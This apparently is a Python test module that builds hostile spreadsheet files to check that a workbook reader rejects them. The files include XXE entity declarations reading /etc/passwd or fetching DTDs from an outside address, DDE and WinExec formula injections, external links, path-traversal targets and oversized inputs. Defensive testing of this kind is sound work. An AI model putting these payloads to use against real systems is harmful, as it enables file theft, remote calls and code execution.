"""Rows 20 to 43 of the threat table: what stands inside the parts of a workbook."""

from __future__ import annotations

from functools import partial
from typing import TYPE_CHECKING

from hostile.keyed import (
    CANARY,
    COSTLY,
    DAMAGED,
    NOT_RECOGNISED,
    READ,
    TOO_LARGE,
    WRONG,
    book,
    case,
    data_row,
    heading_row,
    honest,
    number_cell,
    parts,
    rows,
    sheet_with,
    text_cell,
    with_parts,
    with_related,
    with_strings,
    with_styles,
)
from spreadsheets import MAIN, workbook_of, workbook_parts, zipped

from pledges.sheets.grid import column_letters

if TYPE_CHECKING:
    from collections.abc import Iterator

    from hostile.keyed import Case

REFUSED = (DAMAGED, TOO_LARGE, COSTLY)
SHEET = "xl/worksheets/sheet1.xml"
_DTDS = {
    "billion laughs": '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>',
    "quadratic": f'<!DOCTYPE x [<!ENTITY a "{"h" * 50_000}">]>',
    "a file of this machine": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    "an address elsewhere": '<!DOCTYPE x SYSTEM "http://203.0.113.1/x.dtd">',
    "a parameter entity": '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://203.0.113.1/x"> %a;]>',
}


def _doctypes() -> Iterator[Case]:
    found = parts() | {
        "xl/sharedStrings.xml": f'<sst xmlns="{MAIN}"/>',
        "xl/styles.xml": f'<styleSheet xmlns="{MAIN}"/>',
    }
    found |= {"docProps/core.xml": "<x/>", "xl/theme/theme1.xml": "<x/>", "xl/comments1.xml": "<x/>"}
    for what, declared in _DTDS.items():
        for name, content in found.items():
            if name.endswith((".xml", ".rels")):
                yield case("20", f"{what} in {name}", zipped(found | {name: declared + str(content)}), DAMAGED)
    wide = (_DTDS["billion laughs"] + str(found[SHEET])).encode("utf-16")
    yield case("23", "a document type in UTF-16", zipped(found | {SHEET: wide}), DAMAGED)
    hidden = b"\xef\xbb\xbf" + (_DTDS["quadratic"] + str(found[SHEET])).encode()
    yield case("20", "a document type behind a mark", zipped(found | {SHEET: hidden}), DAMAGED)
    yield honest("20", "a comment that speaks of no document", book(more="<!-- a DOCTYPE is not declared here -->"))


def _xml() -> Iterator[Case]:
    deep = partial(sheet_with, after="<x>" * 1_000_000 + "</x>" * 1_000_000)
    yield case("22", "1,000,000 elements inside each other", deep, *REFUSED)
    yield case("22", "1,000 elements inside each other", sheet_with(after="<x>" * 1000 + "</x>" * 1000), *REFUSED)
    yield case("22", "an attribute of 60 MiB", lambda: sheet_with(after=f'<x a="{"y" * (60 * 2**20)}"/>'), *REFUSED)
    yield case("22", "a comment of 60 MiB", lambda: sheet_with(after=f"<!--{'y' * (60 * 2**20)}-->"), *REFUSED)
    yield case("22", "an instruction of 9 MiB", lambda: sheet_with(after=f"<?x {'y' * (9 * 2**20)}?>"), *REFUSED)
    many = " ".join(f'a{number}="1"' for number in range(300_000))
    yield case("22", "300,000 attributes", sheet_with(after=f"<x {many}/>"), *REFUSED)
    yield case(
        "22", "100 attributes of a cell", book(f'<c r="G2" {many[: many.index("a100=")]}><v>4</v></c>'), *REFUSED
    )
    yield case("22", "a name of 9 MiB", lambda: sheet_with(after=f"<{'y' * (9 * 2**20)}/>"), *REFUSED)
    sheet = str(parts()[SHEET])
    yield honest("23", "a sheet in UTF-16", with_parts(**{SHEET.replace("/", "__"): sheet.encode("utf-16")}))
    for name, content in (
        ("bytes that are no UTF-8", sheet.encode().replace(b"register", b"regist\xff\xfe")),
        ("a raw NUL", sheet.encode().replace(b"register", b"regist\0r")),
        ("a raw ESC", sheet.encode().replace(b"register", b"regist\x1br")),
        ("an undeclared entity", sheet.encode().replace(b"register", b"&nobody;")),
        ("a character that XML has not", sheet.encode().replace(b"register", b"&#0;")),
        ("an encoding nobody has", b'<?xml version="1.0" encoding="x-nobody"?>' + sheet.encode()),
        ("two roots", sheet.encode() + b"<x/>"),
        ("an element that never ends", sheet.encode().replace(b"</sheetData>", b"")),
        ("nothing", b""),
        ("blanks", b"  \n "),
        ("text", b"hello"),
        ("an attribute twice", sheet.encode().replace(b'r="G2"', b'r="G2" r="G2"')),
        ("another root", sheet.encode().replace(b"worksheet", b"wrongsheet")),
        ("another namespace", sheet.encode().replace(b"spreadsheetml/2006", b"nobody/2006")),
    ):
        yield case("23", f"{name} in the sheet", zipped(parts() | {SHEET: content}), DAMAGED)
    escapes = book(text_cell("G2", "_x0034_"))
    yield case("23", "a quantity written as an escape", escapes, "read 4, 5", "read unclear, 5")
    yield case("23", "escaped NUL and ESC in a text", book(evidence="a_x0000_b_x001B_[2J"), READ)


def _addresses() -> Iterator[Case]:
    yield honest("30", "a declared size of the whole sheet", sheet_with('<dimension ref="A1:XFD1048576"/>'))
    yield honest("30", "a declared size of one cell", sheet_with('<dimension ref="A1"/>'))
    yield honest("30", "a declared size that is none", sheet_with('<dimension ref="hello"/>'))
    far = f'<row r="1048576">{number_cell("XFD1048576", "1")}</row>'
    yield case("30", "one cell in the last corner", book(after=far), READ, "read 4, 5, missing")
    space = f'<row r="1048000">{text_cell("Z1048000", " ")}</row>'
    yield honest("30", "a space far below", book(after=space))
    for row in ("2000000000", "1048577", "0", "-1", "1e3", "two", "", "3.5"):
        yield case(
            "30", f"a row numbered {row!r}", book(after=f'<row r="{row}">{number_cell("A9", "1")}</row>'), DAMAGED
        )
    for place in ("ZZZZ99999999999", "XFE2", "A0", "2A", "", "A-2", "G2:H2", "$G$2", "A1048577"):
        yield case("30", f"a cell at {place!r}", book(number_cell(place, "4")), DAMAGED)
    for place in ("g2", "G02"):
        yield case("30", f"a cell at {place!r}", book(number_cell(place, "4")), DAMAGED, READ)
    yield honest("30", "cells and rows without addresses", workbook_of(_without_addresses(rows())))


def _without_addresses(xml: str) -> str:
    import re

    return re.sub(r' r="[A-Z0-9]+"', "", xml)


def _sizes() -> Iterator[Case]:
    style = "<xf/>"
    for count, verdicts in ((1_000_000, REFUSED), (70_000, (*REFUSED, READ)), (60_000, (READ,))):
        made = partial(with_styles, f"<cellXfs>{style * count}</cellXfs>")
        yield case("31", f"{count:,} styles", made, *verdicts)
    wide = partial(_filled, rows_to_fill=50, columns=16_384)
    yield case("32", "16,384 columns of 50 rows", wide, *REFUSED)
    yield honest("32", "1,048,570 formatted rows without anything", _empty_rows)
    yield case("32", "100,002 filled rows", partial(_filled, rows_to_fill=100_002, columns=1), *REFUSED)
    yield case("36", "5,000 sheets", lambda: zipped(workbook_parts(rows(), sheets=5000)), *REFUSED)
    yield case("36", "65 sheets", lambda: zipped(workbook_parts(rows(), sheets=65)), *REFUSED)
    two = str(workbook_parts("", sheets=2)["xl/workbook.xml"]).replace('name="S2"', 'name="s1"')
    yield case(
        "36", "two sheets of one name", zipped({**workbook_parts(rows(), sheets=2), "xl/workbook.xml": two}), DAMAGED
    )
    yield honest("36", "60 sheets", lambda: zipped(workbook_parts(rows(), sheets=60)))


def _filled(*, rows_to_fill: int, columns: int) -> bytes:
    cells = "<c><v>1</v></c>" * columns
    return book(after="".join(f'<row r="{number}">{cells}</row>' for number in range(4, rows_to_fill + 4)))


def _empty_rows() -> bytes:
    return book(after="".join(f'<row r="{number}" ht="15"/>' for number in range(4, 1_048_574)))


def _strings() -> Iterator[Case]:
    strings = "<si><t>4</t></si><si><t>register</t></si>"
    for index in ("2", "-1", "abc", "1.5", "999999999999", "0x1", "1 0"):
        cell = f'<c r="G2" t="s"><v>{index}</v></c>'
        verdicts = (DAMAGED, "read error, 5", "read unclear, 5")
        yield case("33", f"the string number {index!r}", with_strings(strings, cell), *verdicts)
    yield case(
        "33", "a string of no number", with_strings(strings, '<c r="G2" t="s"><v></v></c>'), "read missing, 5", DAMAGED
    )
    yield honest("33", "a string by its number", with_strings(strings, '<c r="G2" t="s"><v>0</v></c>'))
    yield case("33", "no table of strings", book('<c r="G2" t="s"><v>0</v></c>'), DAMAGED)
    yield case("33", "a type of cell nobody knows", book('<c r="G2" t="zzz"><v>4</v></c>'), DAMAGED)
    twice = number_cell("G2", "4") + number_cell("G2", "40")
    yield case("34", "one cell twice", book(twice), DAMAGED)
    yield case("34", "one row twice", book(after=data_row(3, number_cell("G3", "50"))), DAMAGED)
    yield case("34", "rows out of order", book(after=data_row(1, number_cell("G1", "9"))), DAMAGED)
    yield case("34", "a cell of another row", book(number_cell("G2", "4") + number_cell("G9", "9")), DAMAGED)
    yield case("34", "cells out of order", book(more=number_cell("A2", "9")), DAMAGED)
    merges = "".join(f'<mergeCell ref="J{number}:K{number}"/>' for number in range(1, 100_001))
    yield case("35", "100,000 merged ranges", sheet_with(after=f"<mergeCells>{merges}</mergeCells>"), *REFUSED, READ)
    for ref in ("A1:XFD1048576", "A1:A1", "B2:A1", "hello", "A1:ZZZZ9", "A1:B2:C3"):
        merged = sheet_with(after=f'<mergeCells><mergeCell ref="{ref}"/></mergeCells>')
        yield case("35", f"the merged range {ref}", merged, *REFUSED, READ)
    twice = '<mergeCells><mergeCell ref="A9:B9"/><mergeCell ref="B8:B10"/></mergeCells>'
    yield case("35", "two merged ranges over one cell", sheet_with(after=twice), DAMAGED)
    yield case("35", "4,000 columns merged over 20,000 rows", _merged_columns, READ)
    yield honest("35", "two merged cells below", sheet_with(after='<mergeCells><mergeCell ref="A9:B9"/></mergeCells>'))


def _merged_columns() -> bytes:
    """Return a return beside which each of many columns is one merged cell from the first row to the last."""
    letters = [column_letters(column) for column in range(30, 4030)]
    merges = "".join(f'<mergeCell ref="{each}1:{each}20000"/>' for each in letters)
    below = "".join(f'<row r="{row}"><c r="AC{row}"><v>1</v></c></row>' for row in range(5, 20_001))
    return sheet_with(after=f"<mergeCells>{merges}</mergeCells>", content=rows() + below)


def _hidden() -> Iterator[Case]:
    shown = str(parts()["xl/workbook.xml"])
    for state in ("hidden", "veryHidden"):
        content = shown.replace('name="S1"', f'name="S1" state="{state}"')
        yield honest("37", f"a {state} sheet", zipped(parts() | {"xl/workbook.xml": content}), codes="hidden-content")
    hidden_row = (
        heading_row()
        + data_row(2, number_cell("G2", "4"), attributes=' hidden="1"')
        + data_row(3, number_cell("G3", "5"))
    )
    yield honest("37", "a hidden row", workbook_of(hidden_row), codes="hidden-content")
    for columns in ("7", "1"):
        col = f'<cols><col min="{columns}" max="8" hidden="1"/></cols>'
        yield honest("37", f"hidden columns from {columns}", sheet_with(col), codes="hidden-content")
    endless = '<cols><col min="1" max="999999999" hidden="1"/></cols>'
    yield case("37", "hidden columns without end", sheet_with(endless), READ, DAMAGED)
    yield case(
        "37", "hidden columns from nowhere", sheet_with('<cols><col min="x" max="2" hidden="1"/></cols>'), DAMAGED
    )


def _numbers() -> Iterator[Case]:
    for number in ("NaN", "INF", "-Infinity", "0x10", "٣", "1_000", "1,000", "4 people", "--4", "4e", "1e1e1", "4.4.4"):
        yield case("38", f"the stored number {number}", book(number_cell("G2", number)), DAMAGED, "read unclear, 5")
    for number in ("1E999999999", "1e400", "9" * 500):
        verdicts = (DAMAGED, "read unclear, 5", "read error, 5")
        yield case("38", f"the stored number {number[:12]}", book(number_cell("G2", number)), *verdicts)
    for number, read in (
        ("4.0", "4"),
        ("+4", "4"),
        ("4e0", "4"),
        ("0.1", "0.1"),
        ("4E+0", "4"),
        ("0.69999999999999996", "0.7"),
    ):
        yield honest("38", f"the stored number {number}", book(number_cell("G2", number)), f"read {read}, 5")
    yield case(
        "38",
        "40 digits",
        book(number_cell("G2", "1" * 40)),
        f"read {'1' * 40}, 5",
        "read unclear, 5",
        "read 1111111111111111000000000000000000000000, 5",
        "read 1111111111111111104574577044544258555904, 5",
    )
    yield honest("38", "a number of nothing", book('<c r="G2"><v></v></c>'), "read missing, 5")
    for word in ("#N/A", "#REF!", "#DIV/0!", "#VALUE!", "#NAME?", "#NUM!", "#NULL!"):
        cell = f'<c r="G2" t="e"><v>{word}</v></c>'
        yield honest("38", f"the error {word}", book(cell), "read unclear, 5", codes="cell-error")
    yield case("38", "an error nobody knows", book('<c r="G2" t="e"><v>hello</v></c>'), "read unclear, 5", DAMAGED)
    yield case("38", "a truth value for a quantity", book('<c r="G2" t="b"><v>1</v></c>'), "read unclear, 5")
    yield case("38", "a truth value that is none", book('<c r="G2" t="b"><v>7</v></c>'), "read unclear, 5", DAMAGED)
    shown_as_day = '<cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs>'
    for serial in ("-1", "0", "60", "2958466", "1e12", "45748", "0.5"):
        cell = number_cell("G2", serial, ' s="1"')
        yield case("38", f"a quantity that is the day {serial}", with_styles(shown_as_day, cell), "read unclear, 5")
        if serial in {"45748", "0"}:
            for word in ("1", "true"):
                made = with_styles(shown_as_day, cell, epoch_1904=word)
                yield case("38", f"the day {serial} from 1904 ({word})", made, "read unclear, 5")
    for day in ("2026-02-30", "99999-01-01", "2026-W01"):
        cell = f'<c r="G2" t="d"><v>{day}</v></c>'
        yield case("38", f"the stored day {day}", book(cell), "read unclear, 5", DAMAGED)
    moved = heading_row(7) + data_row(8, number_cell("G8", "4")) + data_row(9, number_cell("G9", "5"))
    yield honest("38", "a table that starts in row 7", workbook_of(moved))
    yield honest("38", "no columns but the table's", workbook_of(rows()))


def _formulas() -> Iterator[Case]:
    yield case("39", "a text of 10 MiB", lambda: book(evidence="x" * (10 * 2**20)), *REFUSED, READ)
    yield honest("39", "a text of 32,000 characters", book(evidence="x" * 32_000))
    unsaved = '<c r="G2"><f>SUM(A1:A9)</f></c>'
    yield honest("39", "a formula without a result", book(unsaved), "read unclear, 5", codes="cell-unsaved")
    yield honest("39", "a formula whose result is stale", book('<c r="G2"><f>1+1</f><v>4</v></c>'))
    yield honest("39", "a formula that needs itself", book('<c r="G2"><f>G2</f><v>4</v></c>'))
    long = f'<c r="G2"><f>{"1+" * (4 * 2**20)}1</f><v>4</v></c>'
    yield case("39", "a formula of 8 MiB", lambda: book(long), *REFUSED, READ)
    shared = '<c r="G2"><f t="shared" ref="A1:XFD1048576" si="0">1</f><v>4</v></c>'
    yield honest("39", "a formula shared by the whole sheet", book(shared))
    yield honest("39", "a formula of an array", book('<c r="G2"><f t="array" ref="A1:XFD1048576">1</f><v>4</v></c>'))
    for formula in (
        "WEBSERVICE(&quot;http://203.0.113.1/&quot;)", "cmd|&apos;/c calc&apos;!A0", "[1]Sheet1!$A$1",
        "HYPERLINK(&quot;http://203.0.113.1/&quot;,4)", "CALL(&quot;kernel32&quot;,&quot;WinExec&quot;)",
        "INDIRECT(&quot;A1&quot;)", "RTD(&quot;x&quot;,,&quot;y&quot;)", "FILES(&quot;/etc/*&quot;)",
    ):  # fmt: skip
        yield honest("40", f"the formula {formula[:12]}", book(f'<c r="G2"><f>{formula}</f><v>4</v></c>'))


def _beside() -> Iterator[Case]:
    outside = 'TargetMode="External"'
    for kind, target in (
        ("externalLink", "file:///etc/passwd"), ("externalLink", "http://203.0.113.1/x.xlsx"),
        ("oleObject", "\\\\203.0.113.1\\share\\x"), ("attachedTemplate", "http://203.0.113.1/x.dotm"),
        ("connections", "http://203.0.113.1/q"),
    ):  # fmt: skip
        yield honest("40", f"{kind} to {target}", zipped(with_related(kind, target, "", mode=f" {outside}")))
    for kind, target, part in (
        ("vbaProject", "vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
        ("externalLink", "externalLinks/externalLink1.xml", "<externalLink/>"),
        (
            "comments",
            "comments1.xml",
            f'<comments xmlns="{MAIN}"><authors><author>{CANARY}</author></authors></comments>',
        ),
        ("customXml", "item1.xml", f"<x>{CANARY}</x>"),
        ("pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml", f"<x>{CANARY}</x>"),
        ("theme", "theme/theme1.xml", "<x/>"),
    ):
        yield honest("43", f"a part {kind}", zipped(with_related(kind, target, part)))
    core = f"<coreProperties><creator>{CANARY}</creator></coreProperties>"
    yield honest("43", "a name in the properties", zipped(parts() | {"docProps/core.xml": core}))
    macro = str(parts()["[Content_Types].xml"]).replace(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main",
        "application/vnd.ms-excel.sheet.macroEnabled.main",
    )
    yield honest(
        "41", "a workbook with macros", zipped(parts() | {"[Content_Types].xml": macro, "xl/vbaProject.bin": b"x"})
    )
    names = "xl/_rels/workbook.xml.rels"
    for target in (
        "/etc/passwd",
        "../../../etc/passwd",
        "worksheets/nowhere.xml",
        "http://203.0.113.1/x",
        "",
        "workbook.xml",
    ):
        content = str(parts()[names]).replace("worksheets/sheet1.xml", target)
        yield case("42", f"a sheet that is {target!r}", zipped(parts() | {names: content}), DAMAGED)
    moved = {name: content for name, content in parts().items() if name != SHEET}
    moved["xl/media/image1.png"] = parts()[SHEET]
    moved[names] = str(moved[names]).replace("worksheets/sheet1.xml", "media/image1.png")
    yield case("42", "a sheet that is stored as a picture", zipped(moved), READ, DAMAGED)
    yield case("42", "no sheets", with_parts(**{"xl__workbook.xml": f'<workbook xmlns="{MAIN}"/>'}), DAMAGED)
    strict = {
        name: str(each).replace(MAIN, "http://purl.oclc.org/ooxml/spreadsheetml/main") for name, each in parts().items()
    }
    relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    strict = {
        name: each.replace(relations, "http://purl.oclc.org/ooxml/officeDocument/relationships")
        for name, each in strict.items()
    }
    yield case("42", "Strict Open XML", zipped(strict), READ, WRONG)
    one_name = str(parts()["xl/workbook.xml"]).replace('name="S1"', f'name="{CANARY}"')
    yield honest("43", "a sheet named after a person", zipped(parts() | {"xl/workbook.xml": one_name}))
    two = workbook_parts(rows(), sheets=2)
    two["xl/workbook.xml"] = str(two["xl/workbook.xml"]).replace("S2", "S1")
    yield case("42", "two sheets of one name", zipped(two), READ, DAMAGED)
    yield case("42", "headings alone", workbook_of(heading_row()), "read", NOT_RECOGNISED)


def cases() -> Iterator[Case]:
    """Yield every case of this module."""
    for group in (_doctypes, _xml, _addresses, _sizes, _strings, _hidden, _numbers, _formulas, _beside):
        yield from group()
